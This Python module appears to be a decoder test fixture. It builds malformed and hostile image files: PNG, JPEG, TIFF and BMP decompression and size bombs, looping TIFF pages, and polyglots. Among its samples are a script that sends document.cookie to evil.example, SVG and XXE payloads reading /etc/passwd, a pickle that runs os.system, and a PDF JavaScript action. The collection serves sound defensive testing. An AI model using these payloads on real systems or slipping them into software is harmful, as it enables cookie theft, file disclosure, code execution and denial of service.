"""Files that each attack one weakness of decoders, and the parts that only they have."""

import struct
import zlib
from collections.abc import Callable
from functools import cache

from file_parts import PNG_START, chunk, png_header, runs_bmp, segment
from good_files import encode, srgb_profile, texture
from PIL import Image


def with_chunks(*chunks: bytes) -> bytes:
    """The PNG sample with chunks after its header."""
    data = encode(texture(), "PNG")
    return data[:33] + b"".join(chunks) + data[33:]


def with_segments(*segments: bytes) -> bytes:
    """The JPEG sample with segments before all others."""
    data = encode(texture(), "JPEG")
    return data[:2] + b"".join(segments) + data[2:]


def repeated_scans(side: int, count: int) -> bytes:
    """A JPEG whose last scan comes many times: each is a pass over all pixels."""
    data = encode(Image.new("L", (side, side), 77), "JPEG", progressive=True, quality=5)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * count + b"\xff\xd9"


def with_scans(count: int, components: bytes) -> bytes:
    """The JPEG sample with scans of no pixels, whose headers name these components."""
    data = encode(texture(), "JPEG")
    names = b"".join(bytes([name, 0]) for name in components)
    scan = segment(0xDA, bytes([len(components) & 0xFF]) + names + b"\0\xff\0")
    start = data.index(b"\xff\xda")
    return data[:start] + scan * count + data[start:-2]


def tags_over_one_value(count: int, size: int) -> bytes:
    """A TIFF directory whose tags all name the same bytes."""
    tags = b"".join(struct.pack("<HHII", 10_000 + k, 7, size, 0) for k in range(count))
    return b"II*\0" + struct.pack("<IH", 8, count) + tags + bytes(4) + bytes(size)


def tiff_with(directory: Callable[[list[bytes], int], bytes]) -> bytes:
    """The TIFF sample with a directory made of its tags (12 bytes each) and the file's length."""
    data = encode(texture(), "TIFF")
    start = struct.unpack_from("<I", data, 4)[0]
    count = struct.unpack_from("<H", data, start)[0]
    tags = [data[start + 2 + 12 * k :][:12] for k in range(count)]
    return data[:4] + struct.pack("<I", len(data)) + data[8:] + directory(tags, len(data))


def tag_bomb(tags: list[bytes], length: int) -> bytes:
    more = [struct.pack("<HHII", 40_000 + k, 7, length, 0) for k in range(20_000)]
    return struct.pack("<H", len(tags) + len(more)) + b"".join(tags + more) + bytes(4)


def endless_pages(tags: list[bytes], length: int) -> bytes:
    """A thousand pages, the last of which is followed by the first."""
    step = 2 + 12 * len(tags) + 4
    return b"".join(
        struct.pack("<H", len(tags)) + b"".join(tags) + struct.pack("<I", length + step * page)
        for page in [*range(1, 1000), 0]
    )


def set_tag(tag: int, kind: int, count: int, value: int) -> bytes:
    """The TIFF sample with one tag changed."""
    new = struct.pack("<HHII", tag, kind, count, value)
    return tiff_with(
        lambda tags, _: (
            struct.pack("<H", len(tags))
            + b"".join(new if old[:2] == new[:2] else old for old in tags)
            + bytes(4)
        )
    )


def with_extensions(blocks: bytes) -> bytes:
    """The GIF sample with blocks before its picture."""
    data = encode(texture().quantize(16), "GIF")
    at = data.index(b"\x2c\0\0\0\0")
    return data[:at] + blocks + data[at:]


SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>
<image href="file:///etc/passwd"/></svg>"""
HTML = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script><img src=x>"
ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">
<!ENTITY c SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&b;&c;</svg>"""


@cache
def bombs() -> dict[str, bytes]:
    """Files that each attack one weakness; none takes more than 10 MB here."""
    png, jpeg, gif = (encode(texture(), kind) for kind in ("PNG", "JPEG", "GIF"))
    exif = tags_over_one_value(20_000, 60_000)
    packed = zlib.compress(bytes(50_000_000), 9)
    wide = zlib.compress(bytes(1 + 3 * 20_000) * 1000, 9)
    bad_profile = bytearray(srgb_profile())
    bad_profile[128:132] = b"\xff\xff\xff\xff"  # number of tags
    return {
        "empty": b"",
        "text": b"Dear diary",
        "zeros": bytes(100_000),
        "svg": SVG,
        "html": HTML,
        "xml entities": ENTITIES,
        "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n(/etc/passwd)(r)file",
        "zip": b"PK\3\4" + bytes(100),
        "pickle": b"\x80\x04cos\nsystem\n(S'touch /tmp/owned'\ntR.",
        "elf": b"\x7fELF" + bytes(200),
        "heic": b"\0\0\0\x18ftypheic" + bytes(100),
        "png then html": png + HTML,
        "gif and script": gif[:6] + b"=1/*" + gif[10:] + b"*/;alert(1)",
        "jpeg with script": with_segments(segment(0xFE, HTML)),
        "jpeg then zip": jpeg + b"PK\3\4" + bytes(1000),
        "jpeg then video": jpeg + b"\0\0\0\x18ftypmp42" + b"\xff\xda" * 50_000,
        "png size 0 x 0": png_header(0, 0) + chunk(b"IDAT", zlib.compress(b"")),
        "png size 1 x 1": encode(texture().resize((1, 1)), "PNG"),
        "png size 1 x 60,000": encode(Image.new("RGB", (1, 60_000)), "PNG"),
        "png size 40 x 40": encode(texture().resize((40, 40)), "PNG"),
        "png size 40 x 30,000": encode(Image.new("RGB", (40, 30_000)), "PNG"),
        "jpeg size 65,500 x 40": encode(Image.new("L", (65_500, 40)), "JPEG"),
        "png claims 2^31": png_header(2**31 - 1, 2**31 - 1) + chunk(b"IDAT", b""),
        "png claims 2^32": png_header(2**32 - 1, 2**32 - 1) + chunk(b"IDAT", b""),
        "png 20,000 x 20,000": png_header(20_000, 20_000) + chunk(b"IDAT", wide),
        "png 7,000 x 7,000 of nothing": encode(Image.new("1", (7000, 7000)), "PNG"),
        "gif claims 65,535": gif[:6] + b"\xff\xff\xff\xff" + gif[10:],
        "bmp claims 2^31": runs_bmp(2**31 - 1, 2**31 - 1, b"\0\1"),
        "bmp negative": runs_bmp(-64, -48, b"\0\1"),
        "bmp 7,000 x 7,000 in short runs": runs_bmp(7000, 7000, b"\1\5" * 500_000 + b"\0\1"),
        "bmp jumps": runs_bmp(7000, 7000, b"\0\2\xff\xff" * 500_000 + b"\0\1"),
        "tiff claims 2^32": set_tag(256, 4, 1, 2**32 - 1),
        "tiff rows per strip 0": set_tag(278, 3, 1, 0),
        "tiff samples 65,535": set_tag(277, 3, 1, 65_535),
        "tiff 65,535 bits": set_tag(258, 3, 1, 65_535),
        "tiff fax": encode(texture().convert("1"), "TIFF", compression="group4"),
        "tiff compression 6": set_tag(259, 3, 1, 6),
        "tiff strip count 2^31": set_tag(273, 4, 2**31, 8),
        "tiff tag bomb": tiff_with(tag_bomb),
        "tiff endless pages": tiff_with(endless_pages),
        "tiff own page": tiff_with(
            lambda tags, at: struct.pack("<H", len(tags)) + b"".join(tags) + struct.pack("<I", at)
        ),
        "png exif bomb": with_chunks(chunk(b"eXIf", exif)),
        "png text bomb": with_chunks(chunk(b"zTXt", b"a\0\0" + packed)),
        "png international text bomb": with_chunks(chunk(b"iTXt", b"a\0\1\0\0\0" + packed)),
        "png profile bomb": with_chunks(chunk(b"iCCP", b"a\0\0" + packed)),
        "png 1 MB of text": with_chunks(chunk(b"tEXt", b"a\0" + b"b" * 1_000_000)),
        "png 5 MB of text": with_chunks(chunk(b"tEXt", b"a\0" + b"b" * 5_000_000)),
        "png 100,000 chunks": with_chunks(chunk(b"teSt", b"") * 100_000),
        "png 100,000 texts": with_chunks(chunk(b"tEXt", b"a\0b") * 100_000),
        "png of no picture": PNG_START + chunk(b"IEND", b""),
        "png frames without end": with_chunks(chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))),
        "png with odd palette": png_header(64, 64, 8, 3) + chunk(b"PLTE", b"\0" * 7) + png[33:],
        "jpeg exif bomb": with_segments(segment(0xE1, b"Exif\0\0" + exif[:65_000])),
        "jpeg exif bomb in parts": with_segments(
            *(segment(0xE1, b"Exif\0\0" + exif[k : k + 65_000]) for k in range(0, 300_000, 65_000))
        ),
        "jpeg 200,000 comments": with_segments(segment(0xFE, b"") * 200_000),
        "jpeg 100,000 exif blocks": with_segments(segment(0xE1, b"Exif\0\0x") * 100_000),
        "jpeg 4 MB of fill bytes": jpeg[:2] + b"\xff" * 4_000_000 + jpeg[2:],
        "jpeg segment of no length": with_segments(b"\xff\xe1\0\0"),
        "jpeg broken profile parts": with_segments(
            segment(0xE2, b"ICC_PROFILE\0\0\0" + srgb_profile()),
            segment(0xE2, b"ICC_PROFILE\0\xff\1" + srgb_profile()),
        ),
        "jpeg 99 scans of 30,000 components": with_scans(99, bytes(range(256)) * 120),
        "jpeg 160,000 scans": repeated_scans(1000, 160_000),
        "jpeg 49 MP, 1,000 scans": repeated_scans(7000, 1000),
        "gif 1 million comments": with_extensions(b"!\xfe\1a\0" * 1_000_000),
        "gif 1 MB of garbage": with_extensions(bytes(1_000_000)),
        "gif without a picture": gif[:13] + b";",
        "webp without a picture": b"RIFF\x0c\0\0\0WEBPVP8L\0\0\0\0",
        "webp claims 16,383": (
            b"RIFF\x1e\0\0\0WEBPVP8X\n\0\0\0\2\0\0\0\xfe\x3f\0\xfe\x3f\0" + bytes(8)
        ),
        "profile of letters": encode(texture(), "PNG", icc_profile=b"not a profile" * 20),
        "profile of 2^32 tags": encode(texture(), "PNG", icc_profile=bytes(bad_profile)),
        "profile of another space": encode(
            texture().convert("CMYK"), "JPEG", icc_profile=srgb_profile()
        ),
    }
